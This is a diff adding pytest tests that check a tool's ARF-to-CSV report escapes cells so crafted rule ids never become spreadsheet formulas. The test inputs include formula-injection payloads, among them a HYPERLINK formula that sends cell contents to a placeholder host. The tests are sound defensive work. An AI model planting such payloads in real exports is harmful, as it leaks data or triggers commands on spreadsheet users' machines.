@@ -4,10 +4,18 @@ thousand children is read like any other."""
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
+from xml.sax.saxutils import escape
 
+import pytest
+
+from sascheck.cli import main
+from sascheck.cli_common import EXIT_UNREADABLE
 from sascheck.reports.arf import read_arf
 from sascheck.reports.arf_oval import MAX_PER_ENTRY, MAX_SHOWN, MAX_VALUE
+from sascheck.reports.matrix_csv import FORMULA_STARTS, render_csv
+from sascheck.reports.model import HostView, RuleView
 
 ARF = """<?xml version="1.0" encoding="UTF-8"?>
 <arf:asset-report-collection xmlns:arf="http://scap.nist.gov/schema/asset-reporting-format/1.1">
@@ -83,3 +91,29 @@ def test_millions_of_empty_elements_in_one_rule_result_are_not_kept(tmp_path: Pa
                                       capture_output=True, text=True).stdout.split()
     assert result == "fail"
     assert int(peak_kib) < 200 * 1024  # kept whole, the children alone took over 600 MiB
+
+
+@pytest.mark.parametrize("rule_id", ["=1300+37", '=HYPERLINK("http://x/?"&A1,"see")',
+                                     "+cmd", "@SUM(A1)", "Read_Ahead"])
+def test_an_arf_rule_id_that_is_no_rule_id_is_an_error_row_never_a_csv_formula(
+        tmp_path: Path, rule_id: str):
+    """oscap's ARF is written on the host: a rule id is whatever follows content_rule_ in
+    an idref. Written raw, Gnumeric showed '=1300+37' as 1337 and made HYPERLINK a link."""
+    hostile = tmp_path / "evil.arf.xml"
+    hostile.write_text(ARF.replace("content_rule_read_ahead", "content_rule_" + escape(
+        rule_id, {'"': "&quot;"})).format(criteria="", tested="", os_name="x", items=""))
+    plain = tmp_path / "plain.arf.xml"
+    plain.write_text(ARF.format(criteria="", tested="", os_name="x", items=""))
+    out = tmp_path / "matrix.csv"
+    assert main(["report", "--csv", str(out), str(plain), str(hostile)]) == EXIT_UNREADABLE
+    cells = [cell for row in csv.reader(out.read_text().splitlines()) for cell in row]
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells
+    rules = {row["rule"] for row in csv.DictReader(out.read_text().splitlines())}
+    assert "read_ahead" in rules and not any(rule_id in rule for rule in rules)
+
+
+def test_every_csv_column_is_kept_from_running_as_a_formula():
+    host = HostView(name="=1+1", source="oscap", path="x.arf.xml")
+    host.rules = [RuleView("=2+2", "", "", "-3+3", actual="@4")]
+    row = next(csv.DictReader(render_csv([host]).splitlines()))
+    assert list(row.values()) == ["'=1+1", "'=2+2", "'-3+3", "'@4"]
